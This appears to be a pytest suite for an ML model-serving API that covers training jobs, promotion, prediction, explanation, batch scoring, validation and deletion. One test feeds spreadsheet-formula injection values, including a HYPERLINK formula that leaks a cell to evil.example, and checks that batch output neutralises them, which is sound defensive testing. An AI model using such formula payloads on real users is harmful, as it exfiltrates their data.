"""Train through the job API, then promote, predict, explain, read rules and batch-score."""

from __future__ import annotations

import io
from typing import Any

import numpy as np
import pandas as pd
import pytest

from shopfloor.services import audit

Api = Any


def _table(n: int = 400, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    x1 = rng.normal(size=n)
    x2 = rng.normal(size=n)
    kind = rng.choice(["L", "M", "H"], size=n)
    y = ((x1 + 0.5 * x2 + (kind == "H") * 1.0 + rng.normal(scale=0.3, size=n)) > 1.0).astype(int)
    return pd.DataFrame(
        {
            "serial": [f"S{i:05d}" for i in range(n)],
            "Speed [rpm]": x1,
            "Torque [Nm]": x2,
            "Type": kind,
            "failure": y,
        }
    )


def _upload(api: Api, frame: pd.DataFrame) -> str:
    response = api.client.post(
        "/v1/datasets",
        headers=api.headers("builder"),
        files={"file": ("t.csv", frame.to_csv(index=False).encode(), "text/csv")},
    )
    assert response.status_code == 201, response.text
    return response.json()["id"]


def _train(api: Api, dataset_id: str, **extra: Any):
    body = {
        "type": "train",
        "task": "tabular_classification",
        "dataset_id": dataset_id,
        "target": "failure",
        "exclude": ["serial"],
        "model_name": "line1",
        "time_budget_s": 15,
        **extra,
    }
    return api.client.post("/v1/jobs", json=body, headers=api.headers("builder"))


def _train_line1(api: Api) -> None:
    dataset_id = _upload(api, _table())
    response = _train(api, dataset_id)
    assert response.status_code == 202, response.text
    job = response.json()
    assert job["status"] == "queued"
    api.run_jobs()
    done = api.client.get(f"/v1/jobs/{job['id']}", headers=api.headers("builder")).json()
    assert done["status"] == "succeeded", done
    assert done["result"] == {"model": "line1", "version": 1} and done["progress"] == 1.0


@pytest.fixture()
def trained(api_with: Any) -> Api:
    """line1 version 1, trained once per run; each test changes only its own copy."""
    return api_with(_train_line1)


RECORD = {"Speed [rpm]": 1.2, "Torque [Nm]": 0.4, "Type": "H"}


def test_train_promote_predict_explain_rules(trained: Api) -> None:
    api = trained
    h = api.headers("consumer")
    version = api.client.get("/v1/models/line1/versions/1", headers=h).json()
    assert {"f1", "roc_auc", "pr_auc", "brier", "confusion_matrix"} <= set(version["metrics"])
    assert version["stability"]["n"] >= 5
    spread = version["stability"]["metrics"]
    expected = {"accuracy", "balanced_accuracy", "precision", "recall", "f1", "roc_auc", "pr_auc", "brier"}
    assert expected <= set(spread)
    assert all(v["std"] >= 0 and len(v["values"]) >= 5 for v in spread.values())
    assert version["chosen"] and len(version["candidates"]) >= 3
    assert version["lineage"]["dataset_sha256"] and "lightgbm" in version["lineage"]["packages"]
    # no production alias yet: predict says how to fix it
    response = api.client.post("/v1/models/line1/predict", json={"records": [RECORD]}, headers=h)
    assert response.status_code == 409 and "production" in response.json()["detail"]
    assert (
        api.client.post(
            "/v1/models/line1/predict?version=1", json={"records": [RECORD]}, headers=h
        ).status_code
        == 200
    )
    promoted = api.client.put(
        "/v1/models/line1/aliases/production", json={"version": 1}, headers=api.headers("builder")
    )
    assert promoted.status_code == 200 and promoted.json()["version"] == 1
    response = api.client.post("/v1/models/line1/predict", json={"records": [RECORD, RECORD]}, headers=h)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["model"] == "line1" and body["version"] == 1 and len(body["predictions"]) == 2
    p = body["predictions"][0]
    assert p["label"] in (0, 1) and abs(sum(p["probabilities"].values()) - 1) < 1e-9
    explained = api.client.post("/v1/models/line1/explain", json={"records": [RECORD]}, headers=h).json()
    e = explained["explanations"][0]
    assert set(e["contributions"]) == {"Speed [rpm]", "Torque [Nm]", "Type"}
    assert abs(e["base_value"] + sum(e["contributions"].values()) - e["output"]) < 1e-6
    lime = api.client.post("/v1/models/line1/explain?method=lime", json={"records": [RECORD]}, headers=h)
    assert lime.status_code == 200 and lime.json()["method"] == "lime"
    rules = api.client.get("/v1/models/line1/rules", headers=h).json()
    assert rules["rules"] and 0 <= rules["fidelity"] <= 1
    assert {"rule", "support", "precision"} <= set(rules["rules"][0])
    model = api.client.get("/v1/models/line1", headers=h).json()
    assert model["aliases"] == {"production": 1} and model["versions"][0]["aliases"] == ["production"]
    metrics = api.client.get("/metrics", headers=api.headers("admin")).text
    assert "shopfloor_predictions_total" in metrics and 'route="/v1/models/{name}/predict"' in metrics


def test_predict_rejects_bad_records_per_field(trained: Api) -> None:
    api = trained
    h = api.headers("consumer")
    url = "/v1/models/line1/predict?version=1"
    missing = api.client.post(url, json={"records": [{"Speed [rpm]": 1.0, "Type": "L"}]}, headers=h)
    assert missing.status_code == 422
    assert missing.json()["errors"][0]["loc"] == ["body", "records", 0, "Torque [Nm]"]
    wrong = api.client.post(url, json={"records": [RECORD, {**RECORD, "Speed [rpm]": "fast"}]}, headers=h)
    assert wrong.status_code == 422
    assert wrong.json()["errors"][0]["loc"] == ["body", "records", 1, "Speed [rpm]"]
    too_many = api.client.post(url, json={"records": [RECORD] * 51}, headers=h)
    assert too_many.status_code == 413 and "SHOPFLOOR_MAX_RECORDS_PER_REQUEST" in too_many.json()["detail"]
    unseen = api.client.post(url, json={"records": [{**RECORD, "Type": "X"}]}, headers=h)
    assert unseen.status_code == 200
    assert unseen.json()["warnings"] and "Type" in unseen.json()["warnings"][0]


def test_batch_scoring(trained: Api) -> None:
    api = trained
    frame = _table(50, seed=3).drop(columns=["failure"])
    response = api.client.post(
        "/v1/models/line1/batch?version=1",
        headers=api.headers("builder"),
        files={"file": ("new.csv", frame.to_csv(index=False).encode(), "text/csv")},
    )
    assert response.status_code == 202, response.text
    job_id = response.json()["id"]
    early = api.client.get(f"/v1/jobs/{job_id}/result", headers=api.headers("builder"))
    assert early.status_code == 409
    api.run_jobs()
    result = api.client.get(f"/v1/jobs/{job_id}/result", headers=api.headers("builder"))
    assert result.status_code == 200
    scored = pd.read_csv(io.BytesIO(result.content))
    assert len(scored) == 50 and "prediction" in scored.columns and "serial" in scored.columns
    bad = api.client.post(
        "/v1/models/line1/batch?version=1",
        headers=api.headers("builder"),
        files={"file": ("new.csv", b"a,b\n1,2\n", "text/csv")},
    )
    assert bad.status_code == 422 and "Torque [Nm]" in bad.json()["detail"]


def test_batch_result_neutralises_spreadsheet_formulas(trained: Api) -> None:
    api = trained
    frame = _table(6, seed=4).drop(columns=["failure"])
    cells = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    frame["serial"] = cells
    frame.loc[0, "Speed [rpm]"] = -1.25  # a real negative number stays a number
    response = api.client.post(
        "/v1/models/line1/batch?version=1",
        headers=api.headers("builder"),
        files={"file": ("new.csv", frame.to_csv(index=False).encode(), "text/csv")},
    )
    assert response.status_code == 202, response.text
    api.run_jobs()
    result = api.client.get(f"/v1/jobs/{response.json()['id']}/result", headers=api.headers("builder"))
    assert result.status_code == 200
    scored = pd.read_csv(io.BytesIO(result.content), keep_default_na=False)
    assert scored["serial"].tolist()[:5] == ["'" + c for c in cells[:5]]
    assert scored["serial"].tolist()[5].startswith("'")  # a bare CR may be read as a line end
    assert scored["Speed [rpm]"].dtype.kind == "f" and scored.loc[0, "Speed [rpm]"] == -1.25


@pytest.mark.parametrize(
    ("change", "loc"),
    [
        ({"target": "nope"}, ["body", "target"]),
        ({"exclude": ["serial", "ghost"]}, ["body", "exclude", 1]),
        ({"task": "telepathy"}, ["body", "task"]),
        ({"metric": "happiness"}, ["body", "metric"]),
        ({"task": "imported_classification"}, ["body", "task"]),
    ],
    ids=["unknown-target", "unknown-excluded-column", "unknown-task", "unknown-metric", "imported-task"],
)
def test_bad_training_requests_create_no_job(api: Api, change: dict, loc: list) -> None:
    dataset_id = _upload(api, _table(60))
    response = _train(api, dataset_id, **change)
    assert response.status_code == 422, response.text
    assert response.json()["errors"][0]["loc"] == loc
    assert api.platform.store.list_jobs("default") == []


def test_single_class_target_is_rejected(api: Api) -> None:
    frame = _table(60)
    frame["failure"] = 0
    response = _train(api, _upload(api, frame))
    assert response.status_code == 422 and "class" in response.json()["detail"]
    assert api.platform.store.list_jobs("default") == []


def test_unknown_dataset_is_404(api: Api) -> None:
    assert _train(api, "ds_missing").status_code == 404


def test_cancel_a_queued_job(api: Api) -> None:
    job = _train(api, _upload(api, _table(60))).json()
    cancelled = api.client.post(f"/v1/jobs/{job['id']}/cancel", headers=api.headers("builder")).json()
    assert cancelled["status"] == "cancelled"
    api.run_jobs()
    assert api.platform.store.list_models("default") == []


def test_a_tampered_artifact_is_refused(trained: Api) -> None:
    api = trained
    mv = api.platform.store.get_version("default", "line1", 1)
    api.platform.models.forget()  # the next predict loads from disk
    victim = next(f for f in mv.files if f != "estimator.json") if len(mv.files) > 1 else next(iter(mv.files))
    path = api.settings.home / "artifacts" / mv.artifact / victim
    path.write_bytes(path.read_bytes() + b"\n")
    response = api.client.post("/v1/models/line1/predict?version=1", json={"records": [RECORD]},
                               headers=api.headers("consumer"))
    assert response.status_code == 500
    assert "sha256" in response.json()["detail"] and victim in response.json()["detail"]


def test_version_may_name_an_alias(trained: Api) -> None:
    api = trained
    api.client.put("/v1/models/line1/aliases/staging", json={"version": 1}, headers=api.headers("builder"))
    url = "/v1/models/line1/predict?version=staging"
    assert api.client.post(url, json={"records": [RECORD]}, headers=api.headers()).json()["version"] == 1
    missing = api.client.post("/v1/models/line1/predict?version=canary", json={"records": [RECORD]},
                              headers=api.headers())
    assert missing.status_code == 409 and "canary" in missing.json()["detail"]
    bad = api.client.post("/v1/models/line1/predict?version=a%20b", json={"records": [RECORD]},
                          headers=api.headers())
    assert bad.status_code == 422 and bad.json()["errors"][0]["loc"] == ["query", "version"]
    body = api.client.post("/v1/models/line1/predict", content=b"{not json", headers=api.headers())
    assert body.status_code == 422 and body.json()["errors"][0]["loc"] == ["body"]


def test_a_description_is_plain_text_set_by_builders_and_audited(trained: Api) -> None:
    api = trained
    text = "Flags tool wear on line 1.\n<b>Owner</b>: maintenance"
    builder = api.headers("builder")
    response = api.client.patch("/v1/models/line1", json={"description": text}, headers=builder)
    assert response.status_code == 200, response.text
    assert response.json()["description"] == text
    listed = api.client.get("/v1/models", headers=api.headers("consumer")).json()["items"]
    assert [m["description"] for m in listed] == [text]
    audit.flush(api.platform, everything=True)
    events = api.client.get("/v1/audit?action=model.describe", headers=api.headers()).json()["items"]
    assert [(e["target"], e["detail"]["characters"]) for e in events] == [("line1", len(text))]
    # refused: nothing changes
    for body, loc in [
        ({"description": "x" * 2001}, ["body", "description"]),
        ({"description": "bell\x07"}, ["body", "description"]),
        ({"description": "ok", "owner": "me"}, ["body", "owner"]),
        ({}, ["body", "description"]),
    ]:
        bad = api.client.patch("/v1/models/line1", json=body, headers=api.headers("builder"))
        assert bad.status_code == 422 and bad.json()["errors"][0]["loc"] == loc, bad.text
    assert api.client.patch("/v1/models/line1", json={"description": "x"},
                            headers=api.headers("consumer")).status_code == 403
    assert api.client.patch("/v1/models/line1", json={"description": "x"},
                            headers=api.headers("other")).status_code == 404
    assert api.client.get("/v1/models/line1", headers=api.headers()).json()["description"] == text
    cleared = api.client.patch("/v1/models/line1", json={"description": ""}, headers=api.headers("builder"))
    assert cleared.json()["description"] == ""


def test_a_deleted_model_is_gone_with_its_files_and_its_name_can_be_reused(trained: Api) -> None:
    api = trained
    predict = lambda: api.client.post(  # noqa: E731
        "/v1/models/line1/predict?version=1", json={"records": [RECORD]}, headers=api.headers("consumer")
    )
    assert predict().status_code == 200  # version 1 is loaded in this process's cache
    old = api.platform.models.get("default", "line1", 1).version.artifact
    assert api.files_under(old)
    stored = api.platform.store.storage_bytes("default")
    # refused: nothing changes
    assert api.client.delete("/v1/models/line1", headers=api.headers("consumer")).status_code == 403
    assert api.client.delete("/v1/models/line1", headers=api.headers("other")).status_code == 404
    assert api.client.delete("/v1/models/nope", headers=api.headers("builder")).status_code == 404
    assert predict().status_code == 200

    assert api.client.delete("/v1/models/line1", headers=api.headers("builder")).status_code == 204
    assert api.client.get("/v1/models/line1", headers=api.headers()).status_code == 404
    gone = predict()
    assert gone.status_code == 404 and gone.headers["content-type"].startswith("application/problem+json")
    assert api.client.get("/v1/models", headers=api.headers()).json()["items"] == []
    assert api.files_under(old) == []
    assert api.platform.store.storage_bytes("default") < stored
    assert api.client.delete("/v1/models/line1", headers=api.headers("builder")).status_code == 404
    audit.flush(api.platform, everything=True)
    events = api.client.get("/v1/audit?action=model.delete", headers=api.headers()).json()["items"]
    assert [(e["target"], e["detail"]["versions"]) for e in events] == [("line1", 1)]

    # The name again: a new version 1, never the estimator still cached for the deleted one.
    dataset_id = _upload(api, _table(seed=1))
    assert _train(api, dataset_id, time_budget_s=3).status_code == 202
    api.run_jobs()
    assert predict().status_code == 200
    new = api.platform.models.get("default", "line1", 1).version.artifact
    assert new != old and api.files_under(new)
